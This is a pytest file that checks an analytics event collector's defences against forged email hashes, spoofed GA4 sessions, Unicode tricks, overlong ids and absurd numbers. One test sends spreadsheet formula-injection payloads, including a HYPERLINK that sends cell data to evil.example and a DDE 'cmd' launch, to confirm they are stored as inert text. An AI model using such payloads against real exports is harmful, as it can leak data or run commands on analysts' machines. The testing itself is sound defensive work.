"""The hostile analyst's findings that the collector itself closes (issue 23): what a visitor sends must not get
around the row gate into a column, or set a dimension or a number that analyst figures are built from.

One test per finding, each sent as any page visitor could, with a browser's user agent: (1) a forged
`email_hash`, (5) a guessable GA4 session id, (9) dimension text that reads as another value or as a formula,
(10) an overlong bot or process id in `detail`, (11) numbers no average or sum survives. The analyst tables' half of the issue is in tests/test_hostile_analyst.py.
"""

from __future__ import annotations

import json
import uuid
from urllib.parse import urlencode

import requests

from loyjoy_collector import measures
from loyjoy_collector.ops.replay import replay
from loyjoy_collector.privacy import hashing
from loyjoy_collector.privacy.gate import Gate
from loyjoy_collector.privacy.keys import Scrubber
from loyjoy_collector.privacy.tally import Tally

from .conftest import HASH_KEY, ORIGIN, VISITOR_UA

EMAIL = "erika.mustermann@example.de"
FORGED_HEX = "ab" * 32  # the form of the collector's hash, made up (or an unkeyed SHA-256 of some address)


def own_hash(email: str) -> str:
    return hashing.email_hash(HASH_KEY.encode(), email)


# ------------------------------------------------------------------------------- (1) around the gate


def test_a_sender_cannot_write_email_hash(collector, local_bigquery, tag):
    forged = {
        "address": {"event": "newsletter_single_opt_in", "bot_id": tag, "detail": {"email_hash": "max@example.com"}},
        "phone": {"event": "newsletter_single_opt_in", "bot_id": tag, "detail": {"Email-Hash": "+49 170 1234567"}},
        "control": {"event": "newsletter_single_opt_in", "bot_id": tag, "detail": {"email_hash": "a\x00b\x1bc"}},
        "hex": {"event": "newsletter_single_opt_in", "bot_id": tag, "detail": {"email_hash": FORGED_HEX}},
        # a real address and a forged hash beside it, in either order: the address's hash wins
        "before": {"event": "sign_in", "bot_id": tag, "detail": {"email_hash": FORGED_HEX, "email": EMAIL}},
        "after": {"event": "sign_in", "bot_id": tag, "detail": {"email": EMAIL, "email_hash": FORGED_HEX}},
    }
    for name, event in forged.items():
        event["detail"]["label"] = name
        assert collector.post(event).status_code == 200
    # sGTM's user-provided data, on the Data Tag's route
    stape = {"event_name": "loyjoy", "gaEventCategory": "loyjoy", "gaEventLabel": "newsletter_opt_in", "bot_id": tag}
    stape["user_data"] = {"email_hash": "max@example.com", "phone_number": "+49 170 1234567"}
    assert collector.post(stape, path="/data").status_code == 200

    rows = {row["label"] or "stape": row for row in local_bigquery.events("bot_id = @tag", tag=tag)}
    assert {name: rows[name]["email_hash"] for name in rows} == {
        "address": None,
        "phone": None,
        "control": None,
        "hex": None,
        "before": own_hash(EMAIL),
        "after": own_hash(EMAIL),
        "stape": None,
    }
    for name in ("address", "phone", "control", "hex"):
        assert "email_hash" not in json.dumps(rows[name]["detail"]), name
        assert any(flag.startswith("dropped_key:") for flag in rows[name]["quality_flags"]), name
    assert rows["stape"]["detail"].get("user_data", {}) == {}
    stored = json.dumps(list(rows.values()), default=str)
    assert "max@example.com" not in stored and "1234567" not in stored and FORGED_HEX not in stored


def test_only_a_replay_signed_with_the_key_keeps_the_collectors_own_hash(collector, local_bigquery, tag):
    kept = {
        "rejected_id": "r-" + tag,
        "reason": "bigquery_refused",
        "raw_payload": json.dumps({"event": "sign_in", "bot_id": tag, "detail": {"email_hash": own_hash(EMAIL)}}),
        "raw_truncated": False,
        "event_index": 0,
        "protocol": "loyjoy",
    }
    [unsigned] = replay([kept], collector.url, ORIGIN)
    [wrong_key] = replay(
        [kept | {"raw_payload": kept["raw_payload"].replace("sign_in", "sign_up")}],
        collector.url,
        ORIGIN,
        b"not-the-key",
    )
    [signed] = replay(
        [kept | {"raw_payload": kept["raw_payload"].replace("sign_in", "open")}],
        collector.url,
        ORIGIN,
        HASH_KEY.encode(),
    )
    assert (unsigned.status, wrong_key.status, signed.status) == (200, 200, 200)
    rows = {row["event_name"]: row["email_hash"] for row in local_bigquery.events("bot_id = @tag", tag=tag)}
    assert rows == {"sign_in": None, "sign_up": None, "open": own_hash(EMAIL)}

    # a signature is for its own body: the same header on another body proves nothing
    body = json.dumps({"event": "close", "bot_id": tag, "detail": {"email_hash": FORGED_HEX}}).encode()
    other = hashing.replay_signature(HASH_KEY.encode(), b"", body + b" ")
    headers = {"Origin": ORIGIN, "User-Agent": VISITOR_UA, hashing.REPLAY_HEADER: other}
    assert requests.post(collector.url + "/", data=body, headers=headers, timeout=30).status_code == 200
    [closed] = local_bigquery.events("bot_id = @tag AND event_name = 'close'", tag=tag)
    assert closed["email_hash"] is None


def test_the_gate_stores_no_email_hash_but_the_collectors_own_form():
    gate = Gate(Scrubber(b"k"))
    row = {"event_id": "e1", "email_hash": "max@example.com"}
    assert gate.seal("events", row, Tally())["email_hash"] is None
    assert gate.seal("events", row | {"email_hash": FORGED_HEX.upper()}, Tally())["email_hash"] is None
    assert gate.seal("events", row | {"email_hash": own_hash(EMAIL)}, Tally())["email_hash"] == own_hash(EMAIL)


# --------------------------------------------------------------------------------- (5) GA4 sessions


def test_a_ga4_session_is_its_client_and_its_sid(collector, local_bigquery, tag):
    """Two visitors who start in the same second, and a hit that copies a visitor's sid, are not one session."""
    shared = {"v": "2", "tid": "G-TEST123", "en": "loyjoy", "ep.gaEventCategory": "loyjoy", "ep.bot_id": tag}
    sid = "1732440000"
    for cid, label, process in (
        ("111.1", "load", "Visitor A"),
        ("111.1", "sign_up", "Visitor A"),
        ("222.2", "load", "Visitor B"),
        ("333.3", "open", "Forger"),  # same sid, another client: must not join A's or B's session
    ):
        params = shared | {"cid": cid, "sid": sid, "ep.gaEventLabel": label, "ep.gaEventAction": process}
        headers = {"Origin": ORIGIN, "User-Agent": VISITOR_UA}
        answer = requests.get(collector.url + "/g/collect?" + urlencode(params), headers=headers, timeout=30)
        assert answer.status_code == 204
    rows = local_bigquery.events("bot_id = @tag", tag=tag)
    sessions: dict[str, set[str]] = {}
    for row in rows:
        assert row["ga_session_id"] == int(sid)
        sessions.setdefault(row["session_id"], set()).add(row["process_name"])
    assert sorted(sessions.values(), key=sorted) == [{"Forger"}, {"Visitor A"}, {"Visitor B"}]
    assert len([row for row in rows if row["process_name"] == "Visitor A"]) == 2


# ------------------------------------------------------------------------------------ (9) text


def test_dimension_text_groups_as_it_reads_and_exports_as_text(collector, local_bigquery, tag):
    """`De\u200bmo` must count as the Demo it shows, a reversed name read as sent, and a formula stay text in the
    spreadsheet an analyst exports the tables to."""
    sent = {
        "zero-width": {"process_name": "De\u200bmo", "utm_source": "news\u2060letter"},
        "bidi": {"process_name": "\u202eomeD", "utm_source": "\ufeffnewsletter"},
        "formula": {
            "process_name": '=HYPERLINK("https://evil.example/?x="&A1,"Demo")',
            "utm_source": "+cmd|' /C calc'!A0",
        },
        "at": {"process_name": "@SUM(1+1)*cmd", "utm_source": "-2+3+cmd"},
        "tab": {"process_name": "\t=1+1", "utm_source": "\r=1+1"},
        "plain": {"process_name": "Demo", "utm_source": "-5"},
    }
    for label, fields in sent.items():
        event = {"event": "open", "bot_id": tag, "page_title": fields["process_name"]}
        event["detail"] = {"process_name": fields["process_name"], "label": label}
        event["utm"] = {"source": fields["utm_source"]}
        assert collector.post(event).status_code == 200, label
    rows = {row["label"]: row for row in local_bigquery.events("bot_id = @tag", tag=tag)}
    stored = {label: (row["process_name"], row["utm_source"]) for label, row in rows.items()}
    assert stored == {
        "zero-width": ("Demo", "newsletter"),
        "bidi": ("omeD", "newsletter"),
        "formula": ('\'=HYPERLINK("https://evil.example/?x="&A1,"Demo")', "'+cmd|' /C calc'!A0"),
        "at": ("'@SUM(1+1)*cmd", "'-2+3+cmd"),
        "tab": ("'\t=1+1", "'\r=1+1"),
        "plain": ("Demo", "-5"),
    }
    assert {label: row["page_title"] for label, row in rows.items()} == {
        label: name for label, (name, _) in stored.items()
    }


def test_every_format_character_is_removed_and_nothing_else():
    """Against Python's own Unicode database: RE2's `\\p{Cf}` must cover every format character it lists."""
    import sys
    import unicodedata

    from loyjoy_collector.privacy.dimensions import dimension_text

    for code in range(sys.maxunicode + 1):
        if 0xD800 <= code <= 0xDFFF:
            continue
        char = chr(code)
        if unicodedata.category(char) == "Cf":
            assert dimension_text(f"a{char}b") == "ab", hex(code)
    kept = "Grüße 👨‍👩‍👧 ∑ ½ ١٢٣ مرحبا"
    assert dimension_text(kept) == kept.replace("\u200d", "")
    assert dimension_text("+49 30 1234") == "'+49 30 1234" and dimension_text("+3.5") == "+3.5"


# ----------------------------------------------------------------------------- (10) cardinality


def test_ids_in_detail_are_held_to_the_top_level_limit(collector, local_bigquery, tag):
    long_id = "p" + "x" * 1015
    answer = collector.post({"event": "open", "bot_id": tag, "detail": {"process_id": long_id}})
    assert answer.status_code == 400
    error = answer.json()["error"]
    assert error["reason"] == "invalid_field" and "process_id" in error["detail"]
    [refused] = local_bigquery.rejected("rejected_id = @id", id=answer.json()["rejected_id"])
    assert refused["raw_payload"]  # kept, for a replay once the sender is fixed
    answer = collector.post({"event": "open", "detail": {"bot_id": tag * 20, "process_id": "p-1"}})
    assert answer.status_code == 400 and "bot_id" in answer.json()["error"]["detail"]
    assert collector.post({"event": "open", "detail": {"bot_id": tag, "process_id": "p" * 128}}).status_code == 200
    [row] = local_bigquery.events("bot_id = @tag", tag=tag)
    assert row["process_id"] == "p" * 128


# ---------------------------------------------------------------------------------- (11) numbers


def test_numbers_no_average_or_sum_survives_are_dropped_and_counted(collector, local_bigquery, tag):
    detail = {
        "nps": 1e308,
        "value": 2**63 - 1,
        "rating": -3,
        "percent_scrolled": 250,
        "duration_ms": 10**15,
        "quiz_points_tier": 10**16,  # an operator's own key (PII_ALLOWED_KEYS=*_tier): any other measure
        "score": 7,
        "count": 3,
        "product_id": 10**12,  # an id, not a measure
    }
    answer = collector.post({"event": "nps_survey_score_9", "bot_id": tag, "detail": detail})
    assert answer.status_code == 200
    [row] = local_bigquery.events("bot_id = @tag", tag=tag)
    assert row["detail"] == {"score": 7, "count": 3, "product_id": 10**12}
    assert "out_of_range_dropped=6" in row["quality_flags"]


def test_every_known_measure_has_a_range_an_average_survives():
    for key, (low, high) in measures.RANGES.items():
        assert low < high and abs(low) <= 10**10 and abs(high) <= 10**10, key
        assert measures.within(key, high) and not measures.within(key, high + 1), key
    assert measures.within("nps", 10) and not measures.within("nps", 11) and not measures.within("nps", -1)
    assert measures.within("order_id", 2**63 - 1) and measures.within("ep.createdAt", 2**62)  # ids, times: as sent
    assert not measures.within("durationMs", 10**15) and not measures.within("epn.npsScore", 11)
    assert not measures.within("points", 10**16) and measures.within("points", 10**15)
    many = sum([measures.OTHER[1]] * 9000)
    assert many < 2**63 - 1  # thousands of the largest other measure still sum within INT64


def test_what_the_gate_keeps_of_numbers_in_ga4_parameters():
    gate = Gate(Scrubber(b"k"))
    tally = Tally()
    kept = json.loads(gate.json_text({"epn.nps": 11, "epn.value": 19.99, "epn.npsScore": 9}, tally))
    assert kept == {"epn.value": 19.99, "epn.npsScore": 9} and tally.out_of_range == 1


def test_a_browser_event_is_refused_for_nothing_above(collector, local_bigquery, tag):
    """What LoyJoy itself sends passes untouched: the rules above cost a real visitor nothing."""
    client = str(uuid.uuid4())
    detail = {"bot_id": tag, "process_id": "5f0c7a4e-1b2d-4c3e-9f8a-a1b2c3d4e5f6", "process_name": "Newsletter"}
    answer = collector.post({"event": "nps_survey_score_10", "client_id": client, "detail": detail | {"nps": 10}})
    assert answer.status_code == 200
    [row] = local_bigquery.events("bot_id = @tag", tag=tag)
    assert row["process_id"] == detail["process_id"] and row["detail"]["nps"] == 10
    assert not [flag for flag in row["quality_flags"] if flag.startswith(("out_of_range", "pii_"))]
